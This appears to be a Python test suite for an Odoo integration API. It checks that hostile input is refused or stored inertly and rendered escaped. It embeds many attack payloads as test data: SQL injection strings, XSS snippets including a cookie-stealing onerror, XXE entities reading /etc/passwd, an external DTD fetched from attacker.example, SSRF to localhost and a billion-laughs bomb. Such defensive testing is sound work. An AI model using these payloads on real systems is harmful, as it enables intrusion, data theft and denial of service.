"""Hostile input through the HTTP API and through processing: refused with a stable code,
or stored inertly (verbatim in the database, escaped wherever it is rendered)."""

import json
import time

from odoo.tests import HttpCase
from odoo.tests import tagged

from .security_api_common import SecurityCase

UBL_NS = "urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"
SQL_INJECTION = "'); DROP TABLE res_partner;--"
SCRIPT = "<script>alert(1)</script>"
INJECTIONS = {
    "name": SQL_INJECTION,
    "legal_name": SCRIPT,
    "phone": "1' OR '1'='1",
    "payment_terms": '"; DELETE FROM account_move; --',
    "category": "<img src=x onerror=alert(document.cookie)>",
}
ADDRESS_INJECTIONS = {
    "street": "Robert'); DROP TABLE students;--",
    "street2": "{{ 7*7 }} ${7*7} <%= 7*7 %>",
    "city": '"><svg onload=alert(1)>',
    "zip": "60093\\'; --",
}
BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">&lol9;</Invoice>
"""


def ubl(prolog, body="<cbc:ID>&xxe;</cbc:ID>"):
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n{prolog}\n'
        f'<Invoice xmlns="{UBL_NS}" xmlns:cbc="urn:oasis:names:specification:ubl:schema:'
        f'xsd:CommonBasicComponents-2">{body}</Invoice>'
    ).encode()


@tagged("post_install", "-at_install")
class TestHostileInput(SecurityCase, HttpCase):
    def post_xml(self, body, endpoint="invoices"):
        return self.post(endpoint, body, content_type="application/xml")

    def assertNothingStored(self, before):
        self.assertEqual(self.Inbox.search_count([]), before, "a refused request stores nothing")

    # -- XML ------------------------------------------------------------------------

    def test_xml_external_entities_are_refused(self):
        before = self.Inbox.search_count([])
        cases = {
            "file": ubl('<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
            "ssrf": ubl('<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "http://127.0.0.1:22/">]>'),
            "parameter entity": ubl(
                '<!DOCTYPE Invoice [<!ENTITY % p SYSTEM "file:///etc/hostname"> %p;]>',
                body="<cbc:ID>1</cbc:ID>",
            ),
            "external dtd": ubl(
                '<!DOCTYPE Invoice SYSTEM "http://attacker.example/evil.dtd">',
                body="<cbc:ID>1</cbc:ID>",
            ),
            "utf-16": ubl('<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')
            .decode()
            .replace('encoding="UTF-8"', 'encoding="UTF-16"')
            .encode("utf-16"),
        }
        for name, payload in cases.items():
            with self.subTest(name):
                response = self.post_xml(payload)
                self.assertEqual(response.status_code, 400, response.text)
                self.assertTrue(response.json()["error"]["code"].startswith(("xml_", "ubl_")))
                self.assertNotIn("root:", response.text)
        self.assertNothingStored(before)

    def test_entity_expansion_bomb_is_refused_fast(self):
        before = self.Inbox.search_count([])
        started = time.monotonic()
        response = self.post_xml(BILLION_LAUGHS)
        self.assertError(response, 400, "xml_forbidden")
        # the bomb is refused by a byte scan, never expanded (a generous bound, not a benchmark)
        self.assertLess(time.monotonic() - started, 10)
        quadratic = ubl(
            f'<!DOCTYPE Invoice [<!ENTITY a "{"x" * 50_000}">]>',
            body="<cbc:ID>" + "&a;" * 5_000 + "</cbc:ID>",
        )
        self.assertError(self.post_xml(quadratic), 400, "xml_forbidden")
        self.assertNothingStored(before)

    def test_xml_that_only_a_parser_can_judge_dies_with_a_reason(self):
        """Accepted fast, then refused by the safe parser while processing: dead, reason
        recorded, nothing read from the file system."""
        cases = {
            "deep nesting": (ubl("", body="<a>" * 100_000 + "</a>" * 100_000), "xml_syntax"),
            "invalid utf-8": (
                ubl("", body="<cbc:ID>x</cbc:ID>").replace(b"<cbc:ID>x", b"<cbc:ID>\xff\xfe"),
                "xml_syntax",
            ),
            "xinclude": (
                ubl(
                    "",
                    body='<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                    'href="file:///etc/passwd" parse="text"/>',
                ),
                None,
            ),
        }
        for name, (payload, code) in cases.items():
            with self.subTest(name):
                response = self.post_xml(payload)
                self.assertEqual(response.status_code, 202, response.text)
                self.process()
                message = self.Inbox.browse(response.json()["id"])
                self.assertEqual(message.state, "dead")
                self.assertTrue(message.error_message)
                if code:
                    self.assertEqual(message.error_code, code)
                self.assertNotIn("root:", json.dumps(message._api_status()))
                self.assertNotIn("root:", json.dumps(message.document or {}))

    # -- JSON -----------------------------------------------------------------------

    def test_deep_json_is_too_deep(self):
        before = self.Inbox.search_count([])
        nested = b'{"name": "x", "identifiers": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
        self.assertError(self.post("vendors", nested), 400, "too_deep")
        self.assertError(self.post("vendors", b"[" * 200_000), 400, "too_deep")
        moderately = {"name": "x"}
        for _i in range(40):
            moderately = {"nested": moderately}
        self.assertError(self.post("vendors", moderately), 400, "too_deep")
        self.assertNothingStored(before)

    def test_invalid_text_is_refused(self):
        before = self.Inbox.search_count([])
        cases = {
            b'{"name": "\xc3\x28"}': "invalid_encoding",  # invalid UTF-8 sequence
            b'{"name": "\xc0\xaf"}': "invalid_encoding",  # overlong encoding of "/"
            b'{"name": "\xed\xa0\x80"}': "invalid_encoding",  # UTF-8-encoded surrogate
            b'{"name": "\\ud800", "identifiers": []}': "invalid_encoding",  # lone surrogate
            b'{"name": "a\\u0000b"}': "invalid_character",  # NUL: PostgreSQL cannot store it
            b'{"name": "x", "v": NaN}': "malformed_json",
            b'{"name": "x", "v": -Infinity}': "malformed_json",
            b'{"name": "x", "v": 1e999}': "malformed_json",
            b'{"name": "x", "name": "y"}': "malformed_json",
            b'{"name": "x", "v": ' + b"9" * 5000 + b"}": "malformed_json",
        }
        for payload, code in cases.items():
            with self.subTest(payload[:40]):
                self.assertError(self.post("vendors", payload), 400, code)
        # an escaped backslash followed by "u0000" is ordinary text, not a NUL
        text = self.vendor_doc(name="C:\\u0000 folder")
        self.assertEqual(self.post("vendors", text).status_code, 202)
        self.assertEqual(self.Inbox.search_count([]), before + 1)

    def test_invalid_utf8_in_csv_is_refused(self):
        before = self.Inbox.search_count([])
        csv = b"source_id,name,gln,city,country_code\nV-1,Caf\xe9 \xff,0614141000029,X,US\n"
        response = self.post("vendors", csv, content_type="text/csv")
        self.assertError(response, 400, "csv_encoding")
        self.assertNothingStored(before)
        # the control: the same row in UTF-8 is accepted and stored
        valid = csv.replace(b"Caf\xe9 \xff", "Café".encode())
        response = self.post("vendors", valid, content_type="text/csv")
        self.assertEqual(response.status_code, 202, response.text)
        self.assertEqual(self.Inbox.search_count([]), before + 1)

    # -- size limits ----------------------------------------------------------------

    def test_size_limits_single_batch_and_chunked(self):
        before = self.Inbox.search_count([])
        self.connector.write({"max_payload_bytes": 2_000, "max_batch_documents": 3})
        big = self.vendor_doc(name="x" * 3_000)
        self.assertError(self.post("vendors", big), 413, "payload_too_large")
        batch = [self.vendor_doc(gln=g) for g in ("0614141000012", "0614141000029")] * 2
        self.assertError(self.post("vendors", batch), 413, "too_many_documents")
        ndjson = b"\n".join(json.dumps(d).encode() for d in batch)
        self.assertError(
            self.post("vendors", ndjson, content_type="application/x-ndjson"),
            413,
            "too_many_documents",
        )
        csv = b"source_id,name,gln,city,country_code\n" + b"".join(
            b"V-%d,Vendor %d,0614141000029,Chicago,US\n" % (i, i) for i in range(4)
        )
        self.assertError(
            self.post("vendors", csv, content_type="text/csv"), 413, "too_many_documents"
        )

        def chunks():
            for _i in range(100):
                yield b" " * 100

        chunked = self.url_open(
            "/api/hc/v1/vendors",
            data=chunks(),
            headers={"Authorization": f"Bearer {self.api_key}", "Content-Type": "application/json"},
            method="POST",
        )
        self.assertError(chunked, 411, "length_required")
        self.assertNothingStored(before)

    # -- injection ------------------------------------------------------------------

    def test_injection_strings_are_stored_verbatim(self):
        doc = self.vendor_doc(**INJECTIONS)
        doc["address"].update(ADDRESS_INJECTIONS)
        doc["email"] = "a'--@example.com"
        key = "'; DROP TABLE hc_inbox_message;--"
        response = self.post("vendors", doc, headers={"Idempotency-Key": key})
        self.assertEqual(response.status_code, 202, response.text)
        self.process()
        message = self.Inbox.browse(response.json()["id"])
        self.assertEqual(message.state, "done", message.error_message)
        self.assertEqual(message.idempotency_key, key)
        self.assertEqual(self.payload(message)["name"], SQL_INJECTION)
        partner = self.env[message.result_model].browse(message.result_ids)
        self.assertEqual(partner.name, SQL_INJECTION)
        self.assertEqual(partner.street, ADDRESS_INJECTIONS["street"])
        self.assertEqual(partner.street2, ADDRESS_INJECTIONS["street2"])
        self.assertEqual(partner.city, ADDRESS_INJECTIONS["city"])
        self.assertEqual(partner.zip, ADDRESS_INJECTIONS["zip"])
        self.assertEqual(partner.phone, INJECTIONS["phone"])
        # the tables are all there and the partner is found by its literal name
        self.assertEqual(self.env["res.partner"].search([("name", "=", SQL_INJECTION)]), partner)
        self.env.cr.execute("SELECT to_regclass('res_partner'), to_regclass('hc_inbox_message')")
        self.assertTrue(all(self.env.cr.fetchone()))
        # lookups by the hostile key are parameterized too
        found = self.get(
            "messages?idempotency_key=" + "%27%3B%20DROP%20TABLE%20hc_inbox_message%3B--"
        )
        self.assertEqual(found.status_code, 200, found.text)
        self.assertEqual(found.json()["id"], message.id)

    def test_hostile_headers_and_paths(self):
        response = self.post("vendors", self.vendor_doc(), headers={"X-Company-Id": "1 OR 1=1"})
        self.assertError(response, 400, "invalid_header")
        response = self.post("vendors", self.vendor_doc(), headers={"Idempotency-Key": "k" * 201})
        self.assertError(response, 400, "invalid_idempotency_key")
        self.assertError(
            self.post("vendors'%20OR%20'1'='1", self.vendor_doc()), 404, "unknown_endpoint"
        )
        self.assertError(
            self.post("vendors", self.vendor_doc(), key="'OR'1'='1'--"), 401, "invalid_credentials"
        )

    def test_hostile_text_is_rendered_escaped_in_the_chatter(self):
        """A supplier's acknowledgment text reaches the PO's chatter as text, not HTML."""
        vendor = {"identifiers": [{"scheme": "GLN", "value": "0614141000012"}]}
        gtin = "00614141000418"
        self.post("vendors", self.vendor_doc())
        self.post("items", {"gtin": gtin, "description": SCRIPT, "uom": "EA", "vendor": vendor})
        self.process()
        po = {
            "number": "PO-HOSTILE",
            "order_date": "2026-03-02",
            "vendor": vendor,
            "currency": self.env.company.currency_id.name,
            "approval_status": "approved",
            "lines": [
                {
                    "line_number": "1",
                    "item": {"gtin": gtin},
                    "quantity": "10",
                    "uom": "EA",
                    "unit_price": "9.50",
                    "requested_date": "2026-03-10",
                }
            ],
        }
        self.assertEqual(self.post("purchase-orders", po).status_code, 202)
        self.process()
        order = self.env["purchase.order"].search([("hc_source_ref", "=", "PO-HOSTILE")])
        self.assertTrue(order)
        self.assertEqual(order.order_line.product_id.name, SCRIPT, "stored verbatim")
        ack = {
            "po_number": "PO-HOSTILE",
            "ack_number": "<b>ACK</b>",
            "ack_date": "2026-03-03",
            "status": "accepted_with_changes",
            "lines": [
                {
                    "line_number": "1",
                    "status": "change",
                    "quantity": "8",
                    "unit_price": "9.50",
                    "reason": SCRIPT,
                }
            ],
        }
        response = self.post("po-acks", ack)
        self.assertEqual(response.status_code, 202, response.text)
        self.process()
        message = self.Inbox.browse(response.json()["id"])
        self.assertEqual(message.state, "done", message.error_message)
        body = str(order.message_ids[0].body)
        self.assertIn("&lt;script&gt;alert(1)&lt;/script&gt;", body)
        self.assertIn("&lt;b&gt;ACK&lt;/b&gt;", body)
        self.assertNotIn("<script", body)
        self.assertNotIn("<b>ACK", body)
